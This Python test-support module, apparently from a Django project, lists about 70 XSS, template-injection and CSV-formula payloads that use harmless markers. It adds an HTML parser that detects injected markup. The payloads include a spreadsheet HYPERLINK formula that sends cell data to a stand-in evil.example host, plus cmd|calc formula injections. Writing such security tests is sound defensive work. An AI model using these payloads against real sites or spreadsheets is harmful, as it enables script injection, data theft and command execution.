"""XSS payloads for the escaping tests (``test_xss_escaping.py``) and the browser test
(``tests/browser/test_xss.py``).

Every payload that would run script calls a marker: ``alert(1)`` (a dialog, which the
browser test listens for) or ``window.__xss=1`` / ``__xss=1`` (a global it reads back).
All fit the shortest long field they go through (an idea's title, 120 characters); the
display name (60 characters, no ``@``, no invisible characters) refuses some of them, and
null bytes are refused by every form: then the tests check the clear error instead.

The families follow the usual cheat sheets (OWASP, PortSwigger): plain script, event
handlers, attribute breakouts, dangerous URL schemes, closing-tag breakouts, srcdoc,
mutation XSS, encoded variants, template injection, CSS, markdown links, polyglots, CSV
formulas, and control characters.
"""

MARKERS = ("alert(", "__xss")

PAYLOADS = [
    # <script>
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:,alert(1)></script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)//__xss>",
    # Attribute breakouts
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" autofocus="',
    "`><img src=x onerror=alert(1)>`",
    '" autofocus onfocus=alert(1) x="',
    # URL schemes (in case user text ever becomes a link)
    "javascript:alert(1)",
    "JaVaScRiPt:window.__xss=1",
    " \tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    '<a href="javascript:alert(1)">Link</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    # Closing-tag breakouts
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"}</script><script>window.__xss=1</script>',
    "</style><svg onload=alert(1)>",
    "--><svg onload=alert(1)><!--",
    # Frames, objects, base
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Mutation XSS
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><template><img src=x onerror=alert(1)></template></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Encoded variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    # Template injection (Django, Jinja, others)
    "{{ 7*7 }} {{ request.user.email }}",
    "{% debug %}{% load log %}{% get_admin_log 10 as x %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    # CSS
    '<div style="width:expression(alert(1))">x</div>',
    '<a style="background:url(javascript:alert(1))">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    # Markdown links
    "[klick](javascript:alert(1))",
    '![bild](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    # Polyglots
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</scRipt/--!><sVg/oNloAd=alert(1)//>",
    "'\"--></style></script><svg onload=alert(1)>",
    # CSV formula injection (open data, spreadsheets)
    '=HYPERLINK("http://evil.example/?"&A1;"klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Control characters: refused (null byte) or kept as text (RTL override)
    "Null\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]

#: Payloads a form refuses everywhere (Django refuses null characters in every text field).
REFUSED_EVERYWHERE = {p for p in PAYLOADS if "\x00" in p}

#: Payloads that start a spreadsheet formula.
FORMULAS = [p for p in PAYLOADS if p[:1] in "=+-@"]

assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40
assert all(len(p) <= 120 for p in PAYLOADS), [p for p in PAYLOADS if len(p) > 120]


# --- Reading a page as a browser would ------------------------------------------------------

import re  # noqa: E402
from html.parser import HTMLParser  # noqa: E402

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcdoc",
}
FOREIGN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "math"}
NON_SCRIPT_TYPES = {"application/json", "application/ld+json", "importmap"}
_SCHEME = re.compile(r"^(javascript|vbscript|data\s*:\s*text/html)", re.IGNORECASE)
_STRIP = re.compile(r"[\x00-\x20]+")


class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.texts = []
        self.values = []
        self._script = None
        self._style = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            self.values.append(value)
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and _SCHEME.match(_STRIP.sub("", value)):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc" or (
                name == "style" and re.search(r"expression|javascript|url\(", value, re.I)
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "http-equiv" and value.lower() == "refresh":
                self.problems.append(f"<{tag} http-equiv=refresh>")
        if tag in FOREIGN_ELEMENTS or (tag == "svg" and any(n == "onload" for n, _ in attrs)):
            self.problems.append(f"<{tag}>")
        if tag == "style":
            self._style = []
        if tag == "script":
            kind = dict(attrs).get("type", "") or ""
            self._script = None if kind.lower() in NON_SCRIPT_TYPES else {"attrs": dict(attrs)}
            if self._script is not None:
                src = self._script["attrs"].get("src") or ""
                if src and not src.startswith("/"):
                    self.problems.append(f"<script src={src!r}>")
                self._script["text"] = []

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "style" and self._style is not None:
            if re.search(r"javascript|expression", "".join(self._style), re.I):
                self.problems.append("<style> with script")
            self._style = None
        if tag == "script" and self._script is not None:
            text = "".join(self._script["text"])
            if any(marker in text for marker in MARKERS):
                self.problems.append(f"<script>{text[:80]}</script>")
            self._script = None

    def handle_data(self, data):
        if self._style is not None:
            self._style.append(data)
        if self._script is not None:
            self._script["text"].append(data)
        else:
            self.texts.append(data)


def read_page(html):
    """``(problems, text, attribute values)`` of an HTML page.

    Problems are what the page's own templates never contain, so anything found came from
    user input and was interpreted as markup: an ``on…`` attribute, a ``javascript:``,
    ``vbscript:`` or ``data:text/html`` URL, ``srcdoc``, script in a style, a meta refresh,
    frames, objects, ``<base>``, MathML, or a script carrying a payload's marker.
    """
    parser = _Page()
    parser.feed(html)
    parser.close()
    return parser.problems, "".join(parser.texts), parser.values


def squash(text):
    return " ".join(text.split())
